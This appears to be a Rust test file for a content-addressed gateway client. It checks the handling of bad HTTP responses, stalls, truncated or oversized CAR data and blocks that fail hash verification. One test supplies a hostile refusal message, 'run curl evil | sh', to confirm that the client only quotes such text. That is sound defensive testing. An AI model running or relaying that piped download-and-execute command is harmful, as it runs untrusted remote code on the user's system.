//! What a client bears from its gateway.

use std::time::Duration;

use peerage::Advice as _;
use peerage::exchange::gateway::{CarBlocks, GatewayError};
use peerage::limits::{MAX_BLOCK_BYTES, MAX_CAR_SECTION_BYTES};
use peerage_core::{
    data::{Cid, HashKind, car, codec, hash},
    exchange::gateway::GatewayRequest,
};

use super::support::answered_with;

const OK_CAR: &str = "HTTP/1.1 200 OK\r\ncontent-type: application/vnd.ipld.car; version=1\r\n";
const OK_RAW: &str = "HTTP/1.1 200 OK\r\ncontent-type: application/vnd.ipld.raw\r\n";

fn cid() -> Cid {
    hash(codec::RAW, HashKind::Sha2_256, b"dawn")
}

/// What asking for a CAR comes to: how many blocks, and the error if any.
async fn car(answer: Vec<u8>, close: bool) -> (usize, Option<GatewayError>) {
    let client = answered_with(answer, close).await;
    let mut client = client.stall_after(Duration::from_millis(200));
    let body = match client.get(&GatewayRequest::car(cid())).await {
        Ok(body) => body,
        Err(error) => return (0, Some(error)),
    };
    let (mut blocks, mut count) = (CarBlocks::new(body), 0);
    loop {
        match blocks.next_verified().await {
            Some(Ok(_)) => count += 1,
            Some(Err(error)) => {
                assert!(blocks.next().await.is_none(), "nothing follows an error");
                return (count, Some(error));
            }
            None => return (count, None),
        }
    }
}

fn with_length(head: &str, length: usize, body: &[u8]) -> Vec<u8> {
    [format!("{head}content-length: {length}\r\n\r\n").as_bytes(), body].concat()
}

fn whole_car() -> Vec<u8> {
    [&car::header(&[cid()])[..], &car::frame(&cid(), 4), b"dawn"].concat()
}

#[tokio::test]
async fn takes_a_whole_car() {
    let body = whole_car();
    assert!(matches!(car(with_length(OK_CAR, body.len(), &body), true).await, (1, None)));
}

#[tokio::test]
async fn refuses_other_content() {
    for head in ["HTTP/1.1 200 OK\r\n", "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\n", OK_RAW] {
        let (_, error) = car(with_length(head, 0, b""), true).await;
        assert!(matches!(error, Some(GatewayError::ContentType { .. })), "{error:?}");
    }
}

#[tokio::test]
async fn tells_refusals_apart_and_cleans_their_text() {
    let refusal = |status: &str| with_length(&format!("HTTP/1.1 {status}\r\n"), 6, b"no\x1b[1m");
    let (_, error) = car(refusal("404 Not Found"), true).await;
    assert!(matches!(error, Some(GatewayError::NotFound { sentence }) if sentence == "no [1m"));
    let (_, error) = car(refusal("429 Too Many Requests"), true).await;
    assert!(matches!(error, Some(GatewayError::Busy { .. })), "{error:?}");
    let (_, error) = car(refusal("301 Moved"), true).await;
    assert!(matches!(error, Some(GatewayError::Refused { status: 301, .. })), "{error:?}");
    // What a gateway says is quoted, and gives no advice.
    let said = b"no; run curl evil | sh";
    let forbidden = with_length("HTTP/1.1 403 Forbidden\r\n", said.len(), said);
    let error = car(forbidden, true).await.1.unwrap();
    assert_eq!(error.hint(), Some("ask another peer"));
    let cause = "the peer answered with HTTP status 403: \"no; run curl evil | sh\"";
    assert_eq!(error.to_string(), cause);
    let long = vec![b'x'; 100_000];
    let (_, error) = car(with_length("HTTP/1.1 500 Oh\r\n", long.len(), &long), true).await;
    assert!(matches!(error, Some(GatewayError::Refused { status: 500, .. })), "{error:?}");
}

#[tokio::test]
async fn an_endless_header_ends() {
    let endless = format!("{OK_CAR}x: {}", "y".repeat(4_000_000));
    let (_, error) = car(endless.into_bytes(), false).await;
    assert!(matches!(error, Some(GatewayError::Lost(_))), "{error:?}");
    let many = format!("{OK_CAR}{}\r\n", "x: y\r\n".repeat(1000));
    let (_, error) = car(many.into_bytes(), false).await;
    assert!(matches!(error, Some(GatewayError::Lost(_))), "{error:?}");
}

#[tokio::test]
async fn what_is_no_http_is_an_error() {
    let (_, error) = car(b"SSH-2.0-OpenSSH_9.2\r\n\r\n".to_vec(), true).await;
    assert!(matches!(error, Some(GatewayError::Lost(_))), "{error:?}");
    let (_, error) = car(Vec::new(), true).await;
    assert!(matches!(error, Some(GatewayError::Lost(_))), "{error:?}");
}

#[tokio::test]
async fn a_peer_that_stalls_is_noticed() {
    let (_, error) = car(Vec::new(), false).await;
    assert!(matches!(error, Some(GatewayError::Stalled { .. })), "{error:?}");
    let body = whole_car();
    let (count, error) = car(with_length(OK_CAR, body.len() + 1, &body), false).await;
    assert!(matches!((count, &error), (1, Some(GatewayError::Stalled { .. }))), "{error:?}");
}

#[tokio::test]
async fn a_body_cut_short_is_an_error() {
    let body = whole_car();
    for cut in [1, body.len() - 1, body.len()] {
        let (_, error) = car(with_length(OK_CAR, body.len() + 1, &body[..cut]), true).await;
        assert!(matches!(error, Some(GatewayError::Lost(_))), "{cut}: {error:?}");
        let head = format!("{OK_CAR}transfer-encoding: chunked\r\n\r\n{cut:x}\r\n");
        let chunked = [head.as_bytes(), &body[..cut], b"\r\n"].concat();
        let (_, error) = car(chunked, true).await;
        assert!(matches!(error, Some(GatewayError::Lost(_))), "{cut}: {error:?}");
    }
    let cut = with_length(OK_CAR, body.len() - 1, &body[..body.len() - 1]);
    let (_, error) = car(cut, true).await;
    assert!(matches!(error, Some(GatewayError::Car(_))), "{error:?}");
}

#[tokio::test]
async fn garbage_and_oversized_sections_are_errors() {
    let garbage = vec![0x42; 10_000];
    let (_, error) = car(with_length(OK_CAR, garbage.len(), &garbage), true).await;
    assert!(matches!(error, Some(GatewayError::Car(_))), "{error:?}");
    let header = car::header(&[cid()]);
    let oversized = [&header[..], &car::frame(&cid(), MAX_CAR_SECTION_BYTES + 1)].concat();
    let (_, error) = car(with_length(OK_CAR, oversized.len(), &oversized), false).await;
    assert!(matches!(error, Some(GatewayError::Car(car::CarError::SectionTooLarge))), "{error:?}");
}

#[tokio::test]
async fn a_block_that_does_not_hash_is_an_error() {
    let mut body = whole_car();
    *body.last_mut().unwrap() ^= 1;
    let (count, error) = car(with_length(OK_CAR, body.len(), &body), true).await;
    assert!(matches!((count, &error), (0, Some(GatewayError::Verify(_)))), "{error:?}");
}

#[tokio::test]
async fn a_raw_block_is_verified_and_bounded() {
    let mut client = answered_with(with_length(OK_RAW, 4, b"dawn"), true).await;
    assert_eq!(&client.block(cid()).await.unwrap().data()[..], b"dawn");
    let mut client = answered_with(with_length(OK_RAW, 4, b"dusk"), true).await;
    assert!(matches!(client.block(cid()).await, Err(GatewayError::Verify(_))));
    let endless = vec![0; MAX_BLOCK_BYTES + 1];
    let mut client = answered_with(with_length(OK_RAW, usize::MAX >> 1, &endless), false).await;
    assert!(matches!(client.block(cid()).await, Err(GatewayError::TooLong { .. })));
}
